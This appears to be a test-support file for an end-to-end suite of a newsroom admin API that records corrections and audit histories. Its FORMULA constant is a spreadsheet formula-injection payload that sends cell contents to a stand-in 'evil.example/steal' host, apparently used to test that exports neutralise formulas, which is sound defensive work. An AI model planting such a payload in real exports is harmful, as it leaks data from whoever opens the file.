import request from 'supertest';
import { type RunningAdminApi } from '../../support/admin-api';
import {
  bearer,
  captureClaim,
  import002,
  NON_COAL_GROWTH,
  PINYIN_IN_COAL_POWER,
  PINYIN_IN_RECYCLING,
  settled,
} from './desk';

/** How the spec starts the admin API, given the environment this file chooses. */
type StartAdminApi = (env: Record<string, string>) => Promise<RunningAdminApi>;

export interface Entry {
  position: number;
  recordedAt: string;
  streamId: string;
  revision: number;
  type: string;
  actor: { sub: string };
  reason: string | null;
  annotationId: string | null;
}

export interface Feed {
  items: Entry[];
}

/** A reason that a spreadsheet would run as a formula if the export let it. */
export const FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"詳見")';

/**
 * A server whose log holds two articles, a claim and two corrections (one rejected with a
 * formula for its reason, one published), and the requests that read their histories; started
 * before the tests of the describe that calls this.
 *
 * `start` starts the admin API: the spec passes `startAdminApi`, so that it names the app it
 * starts (the suites on EventStoreDB select their files by that: jest.eventstoredb-e2e.config.js).
 */
export function historiesDesk(start: StartAdminApi) {
  let api: RunningAdminApi;
  let auditor: string;
  let articleId: string;
  let claimId: string;
  let rejectedId: string;
  let publishedId: string;

  beforeAll(async () => {
    api = await start({});
    auditor = await bearer(api, 'auditor');
    const editor = await bearer(api, 'editor');
    const standards = await bearer(api, 'standards_editor');
    await import002(api, 'history-other');
    articleId = await import002(api, 'history');
    claimId = await captureClaim(api, articleId, { exact: NON_COAL_GROWTH });
    const propose = (selector: object) =>
      request(api.url)
        .post(`/v1/articles/${articleId}/corrections`)
        .set('Authorization', editor)
        .send({ selector, kind: 'correction', replacement: '推動', notice: '更正：拼音殘留。' })
        .expect(201)
        .then((response) => response.body.id as string);
    rejectedId = await propose(PINYIN_IN_COAL_POWER);
    await request(api.url)
      .post(`/v1/corrections/${rejectedId}/reject`)
      .set('Authorization', standards)
      .send({ reason: FORMULA })
      .expect(200);
    publishedId = await propose(PINYIN_IN_RECYCLING);
    await request(api.url)
      .post(`/v1/corrections/${publishedId}/approve`)
      .set(
        'Authorization',
        `Bearer ${await api.tokenFor({ sub: 'standards-zhao', roles: ['standards_editor'] })}`,
      )
      .expect(200);
    await settled(api);
  });

  afterAll(() => api.stop());

  const history = (path: string, token = auditor) =>
    request(api.url).get(path).set('Authorization', token);
  const all = async (path: string) =>
    (await history(`${path}${path.includes('?') ? '&' : '?'}limit=500`).expect(200)).body
      .items as Entry[];

  return {
    get api(): RunningAdminApi {
      return api;
    },
    get auditor(): string {
      return auditor;
    },
    get articleId(): string {
      return articleId;
    },
    get claimId(): string {
      return claimId;
    },
    get rejectedId(): string {
      return rejectedId;
    },
    get publishedId(): string {
      return publishedId;
    },
    history,
    all,
  };
}
